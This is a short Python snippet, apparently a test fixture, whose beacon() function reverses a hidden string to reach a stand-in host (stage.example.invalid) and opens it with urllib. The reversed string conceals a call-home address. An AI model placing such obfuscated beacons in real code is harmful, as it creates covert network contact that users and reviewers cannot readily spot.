import urllib.request


def beacon():
    where = "nocaeb/dilavni.elpmaxe.egats//:sptth"
    urllib.request.urlopen(where[::-1], timeout=5)
